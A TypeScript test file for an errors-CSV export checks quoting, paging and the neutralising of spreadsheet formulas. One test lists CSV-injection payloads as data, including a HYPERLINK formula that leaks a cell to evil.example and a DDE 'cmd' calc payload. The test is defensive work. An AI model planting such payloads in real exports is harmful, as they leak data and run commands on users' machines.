// GET errors CSV: RFC 4180 quoting survives commas, quotes and newlines, pages stream in order, and
// a cell a spreadsheet would run as a formula is written as text.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import type { Db } from "../lib/db";
import { useFreshAppDatabase } from "./support/app-db";

let app: Db;
beforeAll(async () => {
  app = await useFreshAppDatabase();
});

// Strict: every CR, LF or CRLF outside quotes ends a record and every record has the header's width,
// as Excel and Python's csv read it (csv-parse alone would take a bare LF after a CRLF header as data).
const parseStrict = (text: string) =>
  parse(text, { columns: true, record_delimiter: ["\r\n", "\n", "\r"], relax_column_count: false, relax_quotes: false }) as Record<string, string>[];

/** The value a reader gets back once it drops the ' that marks a formula as text. */
const unescapeFormula = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/, "");

async function createRun(rows: Record<string, unknown>[]) {
  const source = await app.source.create({ data: { name: "s", kind: "demo" } });
  const database = await app.database.create({ data: { sourceId: source.id, name: "d", configJson: "{}" } });
  const sync = await app.sync.create({ data: { sourceId: source.id, databaseId: database.id, name: "s", type: "track", query: "select 1", frequencyMinutes: 5, startAt: new Date() } });
  const run = await app.syncRun.create({ data: { syncId: sync.id, status: "succeeded" } });
  await app.runError.createMany({ data: rows.map((row, index) => ({ runId: run.id, rowNumber: index + 1, rowJson: JSON.stringify(row), reason: "refused" })) });
  return run;
}

async function csvOf(runId: string) {
  const { streamErrorsCsv } = await import("../lib/runs/stream-errors-csv");
  return new Response(await streamErrorsCsv(runId)).text();
}

describe("streamErrorsCsv", () => {
  it("quotes awkward values and keeps every error row, across pages", async () => {
    const source = await app.source.create({ data: { name: "s", kind: "demo" } });
    const database = await app.database.create({ data: { sourceId: source.id, name: "d", configJson: "{}" } });
    const sync = await app.sync.create({ data: { sourceId: source.id, databaseId: database.id, name: "s", type: "track", query: "select 1", frequencyMinutes: 5, startAt: new Date() } });
    const run = await app.syncRun.create({ data: { syncId: sync.id, status: "succeeded" } });
    const tricky = { userid: "u,1", event: 'say "hi"', note: "line one\nline two", nested: { a: 1 }, flag: true };
    await app.runError.createMany({
      data: Array.from({ length: 2_500 }, (_, index) => ({
        runId: run.id,
        rowNumber: index + 1,
        rowJson: JSON.stringify(index === 1 ? tricky : { userid: `u${index}`, event: null, note: "", nested: null, flag: false }),
        reason: index === 1 ? 'A track call needs an "event", really' : "A track call needs an event column value (the event name).",
      })),
    });
    const text = await csvOf(run.id);
    const records = parseStrict(text);
    expect(Object.keys(records[0])).toEqual(["row", "reason", "userid", "event", "note", "nested", "flag"]);
    expect(records).toHaveLength(2_500);
    expect(records.map((record) => Number(record.row))).toEqual(Array.from({ length: 2_500 }, (_, index) => index + 1));
    expect(records[1]).toEqual({ row: "2", reason: 'A track call needs an "event", really', userid: "u,1", event: 'say "hi"', note: "line one\nline two", nested: '{"a":1}', flag: "true" });
    expect(text.startsWith("row,reason,userid,event,note,nested,flag\r\n")).toBe(true);
  });

  it("quotes a value holding a bare LF or CR, so a strict reader sees one record per row", async () => {
    const run = await createRun([{ userid: "u1", note: "line1\nline2" }, { userid: "u2", note: "a\rb" }, { userid: "u3", note: "x" }]);
    const text = await csvOf(run.id);
    expect(text).toContain('"line1\nline2"');
    expect(parseStrict(text).map((record) => record.note)).toEqual(["line1\nline2", "a\rb", "x"]);
  });

  it("writes cells that start with = + - @ tab or CR as text, and the values still read back", async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"];
    const run = await createRun(hostile.map((value, index) => ({ userid: `u${index}`, value, amount: -5 })));
    const records = parseStrict(await csvOf(run.id));
    expect(records).toHaveLength(hostile.length);
    for (const [index, record] of records.entries()) {
      expect(record.value.startsWith("'")).toBe(true);
      expect(unescapeFormula(record.value)).toBe(hostile[index]);
      // A number is a number in every spreadsheet: left as it is.
      expect(record.amount).toBe("-5");
    }
  });

  it("keeps every deleted-row error (all row number 0) past the first page, under the result's columns", async () => {
    const source = await app.source.create({ data: { name: "s", kind: "demo" } });
    const database = await app.database.create({ data: { sourceId: source.id, name: "d", configJson: "{}" } });
    const sync = await app.sync.create({ data: { sourceId: source.id, databaseId: database.id, name: "s", type: "identify", query: "select 1", frequencyMinutes: 5, startAt: new Date() } });
    const run = await app.syncRun.create({ data: { syncId: sync.id, status: "succeeded" } });
    // A deleted row's error holds only its identifier; a row of the result holds every column.
    const deleted = Array.from({ length: 2_300 }, (_, index) => ({ runId: run.id, rowNumber: 0, rowJson: JSON.stringify({ userid: `gone${index}` }), reason: "The call for this deleted row failed: 500" }));
    const read = [1, 2, 3].map((rowNumber) => ({ runId: run.id, rowNumber, rowJson: JSON.stringify({ userid: `u${rowNumber}`, email: `u${rowNumber}@example.com` }), reason: "refused" }));
    await app.runError.createMany({ data: [...deleted, ...read] });
    const records = parseStrict(await csvOf(run.id));
    expect(records).toHaveLength(2_303);
    expect(new Set(records.filter((record) => record.row === "0").map((record) => record.userid)).size).toBe(2_300);
    expect(Object.keys(records[0])).toEqual(["row", "reason", "userid", "email"]);
    expect(records.slice(-3)).toEqual([1, 2, 3].map((n) => ({ row: String(n), reason: "refused", userid: `u${n}`, email: `u${n}@example.com` })));
    expect(records[0].email).toBe("");
  });

  it("gives just the header for a run without errors", async () => {
    const sync = await app.sync.findFirstOrThrow();
    const run = await app.syncRun.create({ data: { syncId: sync.id, status: "succeeded" } });
    expect(await csvOf(run.id)).toBe("row,reason\r\n");
  });
});
